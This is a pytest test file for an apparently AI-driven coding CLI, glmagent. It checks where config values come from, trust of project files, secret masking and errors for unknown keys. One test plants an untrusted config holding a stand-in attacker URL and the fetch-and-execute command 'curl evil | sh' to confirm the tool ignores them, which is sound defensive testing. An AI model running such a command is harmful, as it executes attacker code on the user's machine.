"""`glmagent config show`, `glmagent init`, and config files with keys glmagent does not know."""

from __future__ import annotations

import json
import re
import tomllib
from pathlib import Path

import pytest

from glmagent.cli import main
from glmagent.config import Settings, resolve_settings, setting_descriptions, user_config_path
from glmagent.errors import ConfigError
from glmagent.trust import TrustStore


def _project_file(root: Path, text: str) -> Path:
    path = root / ".hazina" / "config.toml"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def _show(capsys: pytest.CaptureFixture[str], *args: str) -> dict:
    assert main(["config", "show", "--json", *args]) == 0
    return json.loads(capsys.readouterr().out)


def test_config_show_names_the_origin_of_every_setting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    user = user_config_path()
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text('model = "from-user"\nrequest_timeout = 60\n')
    project = _project_file(tmp_path, 'max_iterations = 7\nshell = "posix"\nmodel = "from-project"\n')
    monkeypatch.setenv("GLMAGENT_SHELL", "powershell")
    document = _show(capsys, "-C", str(tmp_path), "--max-iterations", "9", "--test", "make check")
    settings = document["settings"]
    assert settings["max_iterations"] == {"value": 9, "from": "flag --max-iterations"}
    assert settings["test_command"] == {"value": "make check", "from": "flag --test"}
    assert settings["shell"] == {"value": "powershell", "from": "environment GLMAGENT_SHELL"}
    assert settings["model"] == {"value": "from-project", "from": f"project file {project} (not trusted)"}
    assert settings["request_timeout"] == {"value": 60.0, "from": f"user file {user}"}
    assert settings["command_timeout"] == {"value": 300.0, "from": "default"}
    assert set(settings) == set(Settings.model_fields), "every setting there is, derived from the model"


def test_config_show_lists_untrusted_keys_as_ignored_and_masks_secrets(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _project_file(tmp_path, 'base_url = "https://evil.example/v1"\ntest_command = "curl evil | sh"\n')
    monkeypatch.setenv("ZAI_API_KEY", "sk-very-secret-value-123456")
    monkeypatch.setenv("GLMAGENT_BASE_URL", "https://user:hunter2hunter2@proxy.example/v1?api_key=abc123xyz")
    assert main(["config", "show", "-C", str(tmp_path)]) == 0
    text = capsys.readouterr().out
    assert (
        "sk-very-secret-value-123456" not in text and "hunter2hunter2" not in text and "abc123xyz" not in text
    )
    assert "ZAI_API_KEY is set" in text
    assert "https://user:****@proxy.example/v1?api_key=****" in text
    assert re.search(r"ignored .*not trusted.*\n  base_url = \"https://evil.example/v1\"", text)
    assert 'test_command = "curl evil | sh"' in text
    document = _show(capsys, "-C", str(tmp_path))
    assert document["api_key"]["set"] == "ZAI_API_KEY" and "sk-very" not in json.dumps(document)
    assert set(document["ignored"]) == {"base_url", "test_command"}


def test_config_show_says_a_trusted_project_file_is_trusted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = _project_file(tmp_path, 'test_command = "pytest -q"\n')
    TrustStore().trust(project)
    document = _show(capsys, "-C", str(tmp_path))
    assert document["settings"]["test_command"]["from"] == f"project file {project} (trusted)"
    assert document["ignored"] == {} and document["files"]["project"]["trusted"] is True


@pytest.mark.parametrize("where", ["project", "user"])
def test_an_unknown_key_is_an_error_naming_the_key_and_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str
) -> None:
    if where == "project":
        path = _project_file(tmp_path, "max_iteration = 3\n")
    else:
        path = user_config_path()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("[glmagent]\ntest_comand = 'pytest'\n")
    with pytest.raises(ConfigError) as error:
        resolve_settings(tmp_path, {}, env={})
    message = str(error.value)
    assert str(path) in message and "unknown key" in message
    assert ("'max_iteration'" in message and "did you mean 'max_iterations'" in message) or (
        "'test_comand'" in message and "did you mean 'test_command'" in message
    )
    assert main(["config", "show", "-C", str(tmp_path)]) == 2
    assert "unknown key" in capsys.readouterr().err


def test_an_invalid_value_names_where_it_came_from(tmp_path: Path) -> None:
    path = _project_file(tmp_path, "max_iterations = 101\n")
    with pytest.raises(ConfigError, match=re.escape(f"max_iterations (from project file {path}")):
        resolve_settings(tmp_path, {}, env={})
    with pytest.raises(ConfigError, match="from environment GLMAGENT_COMMAND_TIMEOUT"):
        resolve_settings(tmp_path.parent, {}, env={"GLMAGENT_COMMAND_TIMEOUT": "soon"})


def test_init_writes_a_commented_config_listing_every_setting(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", "-C", str(tmp_path)]) == 0
    path = tmp_path / ".hazina" / "config.toml"
    assert str(path) in capsys.readouterr().out
    text = path.read_text(encoding="utf-8")
    assert tomllib.loads(text) == {"glmagent": {}}, "everything is commented out: defaults apply"
    for name in Settings.model_fields:
        assert re.search(rf"^# \[?(glmagent\.)?{name}", text, re.MULTILINE), f"{name} is documented"
    described = setting_descriptions()
    assert set(described) == set(Settings.model_fields), "every setting has a docstring"
    for name, about in described.items():
        assert about and f"# {about}" in text, f"{name}: its docstring is the comment above it"
    assert resolve_settings(tmp_path, {}, env={}) == Settings()
    # Every commented setting is a valid line once uncommented.
    uncommented = re.sub(
        r"^# (?=[a-z_]+ = |\[glmagent\.prices|input =|output =)", "", text, flags=re.MULTILINE
    )
    table = tomllib.loads(uncommented)["glmagent"]
    assert set(table) == set(Settings.model_fields)
    TrustStore().trust(path)
    (tmp_path / ".hazina" / "replies.jsonl").write_text("")
    (tmp_path / ".hazina" / "extra-policy.toml").write_text("")
    path.write_text(uncommented, encoding="utf-8")
    TrustStore().trust(path)
    assert resolve_settings(tmp_path, {}, env={}).max_iterations == 5


def test_init_refuses_to_overwrite_unless_forced(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = _project_file(tmp_path, "max_iterations = 3\n")
    assert main(["init", "-C", str(tmp_path)]) == 2
    assert "already exists" in capsys.readouterr().err and path.read_text() == "max_iterations = 3\n"
    assert main(["init", "-C", str(tmp_path), "--force"]) == 0
    assert "# max_iterations = 5" in path.read_text()


def _long_options(argv: list[str]) -> set[str]:
    from glmagent.cli import _subparsers, build_parser

    prog = "glmagent " + " ".join(argv)
    parser = next(p for p in _subparsers(build_parser(argv)) if p.prog == prog)
    return {o for action in parser._actions for o in action.option_strings if o.startswith("--")}


def test_the_readme_and_help_say_which_flags_of_task_config_show_does_not_take() -> None:
    """README said config show takes "the flags of task"; --task-file, --task-id and --resume were refused."""
    from conftest import REPO_ROOT

    missing = sorted(_long_options(["task"]) - _long_options(["config", "show"]) - {"--json"})
    assert missing == ["--resume", "--task-file", "--task-id"]
    readme = (REPO_ROOT / "README.md").read_text(encoding="utf-8")
    row = next(line for line in readme.splitlines() if line.startswith("| `glmagent config show"))
    said = re.search(r"the flags of task but ([^\]]+)\]", row)
    assert said is not None, row
    assert sorted(re.findall(r"--[\w-]+", said.group(1))) == sorted([*missing, "--json"])
    from glmagent.cli._config import _EPILOG

    assert all(flag in _EPILOG for flag in missing)
